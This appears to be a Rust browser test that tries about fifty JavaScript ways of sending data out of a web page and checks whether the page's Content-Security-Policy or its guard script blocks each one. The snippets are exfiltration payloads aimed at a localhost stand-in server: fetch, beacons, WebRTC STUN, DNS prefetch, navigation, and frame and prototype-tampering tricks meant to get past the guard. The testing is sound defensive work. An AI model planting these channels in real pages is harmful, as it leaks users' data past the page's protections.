//! Every way that is known by which a script in the page could send something to another server, tried in Chromium. Each is tried against
//! the page as it is, against the page without its guard and against the page without its policy: so it is seen what stops it, and that it
//! would be seen if nothing did.

use std::{collections::BTreeSet, fs, time::Duration};

use anyhow::{Context, Result, ensure};
use serde_json::{Value, json};
use tempfile::TempDir;
use tests::{
    browser::Browser,
    elsewhere::Elsewhere,
    netlog,
    server::{Server, listen},
    session::{Engine, Session},
};
use tokio::time::sleep;

use crate::visit::copied_page;

/// What of the page stops a way.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Stop {
    /// The content security policy alone.
    Policy,
    /// `web/guard.js` alone.
    Guard,
    /// Either.
    Both,
    /// Chromium lets it through nowhere.
    Browser,
}

impl Stop {
    /// Whether a way gets through a page that has only one of the two.
    fn lets_through(self, page: Page) -> bool {
        match page {
            Page::Whole => false,
            Page::WithoutGuard => self == Self::Guard,
            Page::WithoutPolicy => self == Self::Policy,
            Page::Open => self != Self::Browser,
        }
    }
}

/// The page, or one with holes that were made on purpose.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Page {
    Whole,
    WithoutGuard,
    WithoutPolicy,
    Open,
}

/// A way out: its name, what stops it, and a script that tries it. In the script stand `ADDRESS` (a server's), `PORT` (its port, for
/// datagrams too) and `HOST` (a name that nobody has).
pub type Way = (&'static str, Stop, &'static str);

pub const WAYS: &[Way] = &[
    (
        "fetch",
        Stop::Policy,
        "fetch(`ADDRESS`, {mode: 'no-cors'}).catch(() => 0);",
    ),
    (
        "fetch in a worker",
        Stop::Policy,
        "new Worker(URL.createObjectURL(new Blob([`fetch('ADDRESS', {mode: 'no-cors'}).catch(() => 0)`])));",
    ),
    (
        "fetch later",
        Stop::Policy,
        "const stop = new AbortController(); self.fetchLater?.(`ADDRESS`, {activateAfter: 0, signal: stop.signal}); fetch(`ADDRESS`, {keepalive: true, mode: 'no-cors'}).catch(() => 0);",
    ),
    (
        "XMLHttpRequest",
        Stop::Both,
        "const ask = new XMLHttpRequest(); ask.open('GET', `ADDRESS`); ask.send();",
    ),
    (
        "beacon",
        Stop::Policy,
        "navigator.sendBeacon(`ADDRESS`, 'x');",
    ),
    (
        "WebSocket",
        Stop::Policy,
        "new WebSocket(`ADDRESS`.replace('http', 'ws'));",
    ),
    ("EventSource", Stop::Policy, "new EventSource(`ADDRESS`);"),
    ("WebRTC", Stop::Guard, RTC),
    (
        "WebRTC of a frame",
        Stop::Guard,
        "const frame = document.createElement('iframe'); document.body.append(frame); const RTCPeerConnection = frame.contentWindow.RTCPeerConnection; REACH",
    ),
    (
        "WebRTC of a frame by its place",
        Stop::Guard,
        "const frame = document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe'); document.body.append(frame); const RTCPeerConnection = window[0].RTCPeerConnection; REACH",
    ),
    (
        "WebRTC of a frame from text",
        Stop::Guard,
        "document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>'); const RTCPeerConnection = window[0].RTCPeerConnection; REACH",
    ),
    (
        "WebRTC of a frame from a template",
        Stop::Guard,
        "const template = document.createElement('template'); template.innerHTML = '<iframe></iframe>'; document.body.append(template.content); const RTCPeerConnection = window[0].RTCPeerConnection; REACH",
    ),
    (
        "WebRTC of a frame by an element of one's own",
        Stop::Guard,
        "class Own extends HTMLIFrameElement {} customElements.define('own-frame', Own, {extends: 'iframe'}); document.body.append(new Own()); const RTCPeerConnection = window[0].RTCPeerConnection; REACH",
    ),
    (
        "WebRTC of an object",
        Stop::Guard,
        "const part = document.createElement('object'); part.data = 'about:blank'; part.type = 'text/html'; document.body.append(part); const RTCPeerConnection = window[0].RTCPeerConnection; REACH",
    ),
    (
        "frame",
        Stop::Guard,
        "const frame = document.createElement('iframe'); frame.src = `ADDRESS`; document.body.append(frame);",
    ),
    ("image", Stop::Policy, "new Image().src = `ADDRESS`;"),
    (
        "picture of an SVG",
        Stop::Policy,
        "const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const image = document.createElementNS('http://www.w3.org/2000/svg', 'image'); image.setAttribute('href', `ADDRESS`); svg.append(image); document.body.append(svg);",
    ),
    ("sound", Stop::Policy, "new Audio(`ADDRESS`).load();"),
    (
        "font",
        Stop::Policy,
        "const face = new FontFace('x', `url(ADDRESS)`); face.load().catch(() => 0);",
    ),
    (
        "url of a style",
        Stop::Policy,
        "document.body.style.backgroundImage = `url(ADDRESS)`;",
    ),
    (
        "import of a style",
        Stop::Policy,
        "const style = document.createElement('style'); style.textContent = `@import url(ADDRESS);`; document.head.append(style);",
    ),
    (
        "style sheet",
        Stop::Both,
        "const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = `ADDRESS`; document.head.append(link);",
    ),
    (
        "prefetch",
        Stop::Both,
        "const link = document.createElement('link'); link.rel = 'prefetch'; link.href = `ADDRESS`; document.head.append(link);",
    ),
    (
        "preconnect",
        Stop::Guard,
        "const link = document.createElement('link'); link.rel = 'preconnect'; link.href = `ADDRESS`; document.head.append(link);",
    ),
    (
        "preconnect of a link that is there",
        Stop::Guard,
        "const link = document.querySelector('link').cloneNode(); link.removeAttribute('integrity'); link.rel = 'preconnect'; link.setAttribute('href', `ADDRESS`); document.head.append(link);",
    ),
    (
        "preconnect of a link that is there, by its attribute",
        Stop::Guard,
        "const link = document.querySelector('link').cloneNode(); link.removeAttribute('integrity'); link.rel = 'preconnect'; link.attributes.href.value = `ADDRESS`; document.head.append(link);",
    ),
    (
        "lookup of a name",
        Stop::Guard,
        "const link = document.createElement('link'); link.rel = 'dns-prefetch'; link.href = `http://HOST/`; document.head.append(link);",
    ),
    (
        "lookup of the name of an anchor",
        Stop::Browser,
        "const anchor = document.createElement('a'); anchor.href = `http://HOST/`; anchor.textContent = 'x'; document.body.append(anchor);",
    ),
    (
        "speculation",
        Stop::Policy,
        "const script = document.createElement('script'); script.type = 'speculationrules'; script.textContent = JSON.stringify({prefetch: [{source: 'list', urls: [`ADDRESS`]}]}); document.head.append(script);",
    ),
    (
        "script",
        Stop::Policy,
        "const script = document.createElement('script'); script.src = `ADDRESS`; document.head.append(script);",
    ),
    ("module", Stop::Policy, "import(`ADDRESS`).catch(() => 0);"),
    (
        "script of a worker",
        Stop::Policy,
        "new Worker(URL.createObjectURL(new Blob([`importScripts('ADDRESS')`])));",
    ),
    (
        "form",
        Stop::Guard,
        "const form = document.createElement('form'); form.action = `ADDRESS`; form.method = 'post'; form.target = 'x'; document.body.append(form); form.submit();",
    ),
    (
        "ping of an anchor",
        Stop::Both,
        "const anchor = document.createElement('a'); anchor.href = '#x'; anchor.ping = `ADDRESS`; document.body.append(anchor); anchor.click();",
    ),
    ("another window", Stop::Guard, "window.open(`ADDRESS`);"),
    (
        "form of a template",
        Stop::Guard,
        "const template = document.createElement('template'); template.innerHTML = '<form method=post action=ADDRESS></form>'; const made = template.content.firstChild; document.body.append(made); made.submit();",
    ),
    (
        "another window by an anchor of an SVG",
        Stop::Guard,
        "const anchor = document.createElementNS('http://www.w3.org/2000/svg', 'a'); anchor.setAttribute('href', `ADDRESS`); anchor.setAttribute('target', '_blank'); const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); svg.append(anchor); document.body.append(svg); anchor.dispatchEvent(new MouseEvent('click'));",
    ),
    ("going there", Stop::Guard, "location.href = `ADDRESS`;"),
    (
        "going there by an anchor",
        Stop::Guard,
        "const anchor = document.createElement('a'); anchor.href = `ADDRESS`; document.body.append(anchor); anchor.click();",
    ),
    (
        "going there in another window by an anchor",
        Stop::Guard,
        "const anchor = document.createElement('a'); anchor.href = `ADDRESS`; anchor.target = '_blank'; document.body.append(anchor); anchor.click();",
    ),
    (
        "being sent there",
        Stop::Guard,
        "const meta = document.querySelector('meta[name=description]'); meta.httpEquiv = 'refresh'; meta.content = `0;url=ADDRESS`; document.head.append(meta);",
    ),
    (
        "frame of a document of one's own",
        Stop::Guard,
        "const made = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'iframe'); document.body.append(made.documentElement); \
         const RTCPeerConnection = window[0].RTCPeerConnection; REACH",
    ),
    (
        "another window by an area",
        Stop::Guard,
        "const area = document.createElement('area'); area.href = `ADDRESS`; area.target = '_blank'; document.body.append(area); area.click();",
    ),
    (
        "a page of one's own",
        Stop::Guard,
        "location.href = URL.createObjectURL(new Blob([`<meta http-equiv=refresh content='0;url=ADDRESS'>`], {type: 'text/html'}));",
    ),
    (
        "going there past a listener",
        Stop::Guard,
        "navigation.addEventListener('navigate', event => event.stopImmediatePropagation(), true); location.href = `ADDRESS`;",
    ),
    (
        "frame, by the name of an attribute",
        Stop::Browser,
        "const name = document.createAttribute('x'); let asked = 0; name.toString = () => asked++ ? 'iframe' : 'div'; \
         document.body.append(document.createElement(name)); const RTCPeerConnection = window[0].RTCPeerConnection; REACH",
    ),
    // Only where the name is asked for twice would it be a frame.
    (
        "frame, by a name that changes",
        Stop::Browser,
        "let asked = 0; const frame = document.createElement({toString: () => asked++ ? 'iframe' : 'div'}); \
         document.body.append(frame); const RTCPeerConnection = window[0].RTCPeerConnection; REACH",
    ),
    // What comes later would find a page that does not work.
    (
        "frame, once the language is changed",
        Stop::Guard,
        "RegExp.prototype.exec = () => null; RegExp.prototype.test = () => false; String.prototype.startsWith = () => true; \
         Reflect.apply = () => null; window.DOMException = function () {}; \
         const frame = document.createElement('iframe'); document.body.append(frame); const RTCPeerConnection = window[0].RTCPeerConnection; REACH",
    ),
];

/// Datagrams: the browser asks a STUN server, which is a name and a port.
const RTC: &str = "const reached = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:PORT`}]}); \
     reached.createDataChannel('x'); reached.createOffer().then(offer => reached.setLocalDescription(offer));";

/// The built page with holes.
pub fn page_with_holes(page: Page) -> Result<TempDir> {
    let folder = copied_page()?;
    let index = folder.path().join("index.html");
    let mut html = fs::read_to_string(&index)?;
    let mut cut = |from: &str, to: &str| -> Result<()> {
        let begin = html.find(from).with_context(|| format!("no {from}"))?;
        let end = begin + html[begin..].find(to).with_context(|| format!("no {to}"))? + to.len();
        html.replace_range(begin..end, "");
        Ok(())
    };
    if matches!(page, Page::WithoutGuard | Page::Open) {
        cut("<script>// Ways out", "</script>")?;
        // What the policy asks for here is the guard's.
        cut("require-trusted-types-for", ";")?;
    }
    if matches!(page, Page::WithoutPolicy | Page::Open) {
        cut("<meta http-equiv=\"Content-Security-Policy\"", "/>")?;
    }
    fs::write(index, html)?;
    Ok(folder)
}

/// The script of a way that leads to a server.
pub fn tried(script: &str, elsewhere: &Elsewhere, number: usize) -> String {
    let address = format!("http://127.0.0.1:{}/", elsewhere.port);
    let script = script
        .replace("REACH", RTC)
        .replace("ADDRESS", &address)
        .replace("PORT", &elsewhere.port.to_string())
        .replace("HOST", &host(number));
    format!("try {{ {script} }} catch (why) {{ return String(why); }}")
}

/// Names of the ways by which the server elsewhere was reached, or a name was looked up.
async fn got_through(page: Page) -> Result<BTreeSet<&'static str>> {
    let folder = page_with_holes(page)?;
    let server = Server::start(folder.path(), listen(0)?)?;
    // As a person's browser has it: it looks names up and connects ahead.
    let person = json!({ "net": { "network_prediction_options": 0 } });
    let session = Session::start_in(&server, (Engine::Cpu, ""), 0, person).await?;
    let mut all = Vec::new();
    for (number, (name, stop, script)) in WAYS.iter().enumerate() {
        let elsewhere = Elsewhere::listen().await?;
        let tried = tried(script, &elsewhere, number);
        // A page that has gone away has no answer.
        let said = session.browser.script(&tried).await.unwrap_or(Value::Null);
        println!("{page:?}: {name}: {said}");
        // What is to come may take long on a busy computer; what comes too late here is seen in the end.
        let turns = if stop.lets_through(page) { 100 } else { 8 };
        for _ in 0..turns {
            if elsewhere.reached() > 0 {
                break;
            }
            sleep(Duration::from_millis(50)).await;
        }
        all.push(elsewhere);
        go_back(&session.browser, &server.address()).await?;
    }
    let (log, _folder) = session.browser.close().await?;
    let looked_up = netlog::looked_up(&log)?;
    let is_through = |number: usize| {
        let host = host(number);
        all[number].reached() > 0 || looked_up.iter().any(|found| found.contains(&host))
    };
    let through = WAYS.iter().enumerate().filter(|(at, _)| is_through(*at));
    Ok(through.map(|(_, (name, ..))| *name).collect())
}

/// Goes back to a page that has gone away.
async fn go_back(browser: &Browser, address: &str) -> Result<()> {
    let here = browser.script("return location.origin + '/';").await;
    if here.ok() != Some(Value::from(address)) {
        browser.go(&format!("{address}?engine=cpu")).await?;
        browser.wait("#phase[data-phase=ready]").await?;
    }
    Ok(())
}

/// A name that nobody has, one for each way.
fn host(number: usize) -> String {
    format!("way-{number}.invalid")
}

#[tokio::test(flavor = "multi_thread")]
async fn every_way_out_is_closed_and_it_is_known_by_what() -> Result<()> {
    for page in [
        Page::Whole,
        Page::WithoutGuard,
        Page::WithoutPolicy,
        Page::Open,
    ] {
        let through = got_through(page).await?;
        let others = WAYS
            .iter()
            .filter(|(name, stop, _)| through.contains(name) != stop.lets_through(page));
        let others: Vec<_> = others.map(|(name, stop, _)| (name, stop)).collect();
        ensure!(
            others.is_empty(),
            "{page:?}: stopped by something else than was thought, or by nothing: {others:?}; got through: {through:?}"
        );
    }
    Ok(())
}
